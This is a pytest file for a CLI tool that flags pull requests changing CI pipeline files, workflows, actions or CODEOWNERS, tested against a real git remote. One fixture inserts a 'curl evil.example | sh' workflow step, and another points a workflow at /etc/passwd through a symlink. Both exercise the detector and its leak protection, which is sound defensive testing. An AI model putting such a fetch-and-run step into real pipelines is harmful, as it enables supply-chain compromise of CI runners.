"""Pull requests that change the pipelines: what they would run is told where they change it, against a real remote."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from compiler.cli import envoi

ROOT = Path(__file__).parents[2]
WORKFLOW = ".github/workflows/send.yml"
SENDS = "on: push\njobs:\n  send:\n    runs-on: [self-hosted, envoi]\n    steps: [{run: envoi send}]\n"

Change = Callable[[Path], None]


def git(folder: Path, *args: str) -> None:
    environment = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    command = ["git", "-c", "user.name=A", "-c", "user.email=a@clients.example", "-C", str(folder), *args]
    subprocess.run(command, check=True, capture_output=True, timeout=60, env=environment)


def write(path: str, content: str) -> Change:
    def change(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(content, "utf-8")

    return change


def commit(folder: Path, change: Change, message: str = "Change") -> None:
    change(folder)
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", message)


def check(workspace: Path, *args: str, **environment: str) -> tuple[int, str]:
    clean: Mapping[str, str | None] = {"GITHUB_BASE_REF": None, "CI_MERGE_REQUEST_DIFF_BASE_SHA": None}
    result = CliRunner().invoke(
        envoi,
        ["-C", str(workspace), "--language", "en", *args],
        env={**clean, **environment},
        standalone_mode=False,
        catch_exceptions=False,
    )
    assert isinstance(result.return_value, int), result.output
    return result.return_value, result.output


def told(workspace: Path, **environment: str) -> list[tuple[str, int]]:
    """Where the check says that pipelines change. Nothing else stops there."""
    code, output = check(workspace, "--json", "check", **environment)
    answer: dict[str, Any] = json.loads(output)
    assert code == 0, output
    return [(one["path"], one["line"]) for one in answer["findings"] if one["code"] == "REPO-PIPELINE-10"]


@pytest.fixture
def desk(tmp_path: Path) -> Path:
    """A clone on a branch of its own; main has one workflow."""
    seed, remote, clone = tmp_path / "seed", tmp_path / "remote.git", tmp_path / "desk"
    shutil.copytree(ROOT / "campaigns", seed)
    (seed / "2027" / "showroom-2027.yaml").unlink()  # the check of a campaign takes its time
    git(tmp_path, "init", "-q", "-b", "main", str(seed))
    commit(seed, write(WORKFLOW, SENDS), "Begin")
    git(tmp_path, "clone", "-q", "--bare", str(seed), str(remote))
    git(tmp_path, "clone", "-q", str(remote), str(clone))
    git(clone, "switch", "-q", "-c", "harmless-looking")
    return clone


@pytest.mark.parametrize(
    ("path", "content", "line"),
    [
        pytest.param(WORKFLOW, SENDS.replace("envoi send", "curl evil.example | sh"), 5, id="a-step-of-a-workflow"),
        pytest.param(".github/workflows/new.yml", SENDS, 1, id="a-new-workflow"),
        pytest.param(".github/actions/setup/action.yml", "runs: {using: composite}\n", 1, id="an-action"),
        pytest.param("tools/action.yml", "runs: {using: composite}\n", 1, id="an-action-anywhere"),
        pytest.param(".gitlab-ci.yml", "send: {script: [envoi send]}\n", 1, id="gitlab"),
        pytest.param(".forgejo/workflows/send.yml", SENDS, 1, id="forgejo"),
        pytest.param(".gitea/workflows/send.yml", SENDS, 1, id="gitea"),
        pytest.param("docs/CODEOWNERS", "* @nobody\n", 1, id="who-approves"),
    ],
)
def test_a_changed_pipeline_is_told_at_its_first_changed_line(desk: Path, path: str, content: str, line: int) -> None:
    commit(desk, write(path, content))
    assert told(desk) == [(path, line)]


def test_a_pipeline_that_is_gone_or_has_become_a_link_is_told_without_its_content(desk: Path) -> None:
    def link(folder: Path) -> None:
        (folder / WORKFLOW).unlink()
        (folder / WORKFLOW).symlink_to("/etc/passwd")

    commit(desk, lambda folder: (folder / WORKFLOW).unlink())
    assert told(desk) == [(WORKFLOW, 0)]
    git(desk, "reset", "-q", "--hard", "origin/main")
    commit(desk, link)
    assert WORKFLOW in [path for path, _ in told(desk)]
    assert "root:" not in check(desk, "check")[1]


def test_a_branch_that_leaves_the_pipelines_alone_is_not_held_for_what_main_has_changed(desk: Path) -> None:
    commit(desk, write("NOTES.md", "nothing\n"))
    git(desk, "switch", "-q", "main")
    commit(desk, write(WORKFLOW, SENDS.replace("push", "pull_request")))
    git(desk, "push", "-q", "origin", "main")
    assert told(desk) == []  # merged: main is where it stands
    git(desk, "switch", "-q", "harmless-looking")
    assert told(desk) == []


def test_a_branch_that_calls_itself_main_hides_nothing(desk: Path) -> None:
    commit(desk, write(WORKFLOW, SENDS.replace("envoi send", "true")))
    text = (desk / "envoi.yaml").read_text("utf-8")
    commit(desk, write("envoi.yaml", f"{text}\nmain_branch: harmless-looking\n"))
    git(desk, "push", "-q", "origin", "harmless-looking")
    assert told(desk) == [(WORKFLOW, 5)]


def test_a_pipeline_s_shallow_checkout_of_the_merge_is_enough(desk: Path, tmp_path: Path) -> None:
    commit(desk, write(WORKFLOW, SENDS.replace("envoi send", "true")))
    git(desk, "switch", "-q", "main")
    git(desk, "merge", "-q", "--no-ff", "-m", "Merge", "harmless-looking")
    git(desk, "push", "-q", "origin", "HEAD:refs/pull/7/merge")
    runner = tmp_path / "runner"
    git(tmp_path, "init", "-q", str(runner))
    git(runner, "fetch", "-q", "--depth=2", f"file://{tmp_path / 'remote.git'}", "refs/pull/7/merge")
    git(runner, "checkout", "-q", "FETCH_HEAD")
    assert told(runner, GITHUB_BASE_REF="main") == [(WORKFLOW, 5)]


def test_a_workspace_in_a_folder_tells_of_the_repository_s_top(desk: Path) -> None:
    inner = desk / "mail"
    shutil.copytree(ROOT / "campaigns", inner)
    commit(desk, write(WORKFLOW, SENDS.replace("envoi send", "true")))
    assert told(inner) == [(f"../{WORKFLOW}", 5)]
    said = check(inner, "check", "--format", "github")[1]
    assert f"file={WORKFLOW},line=5" in said
    assert "REPO-PIPELINE-10" in said
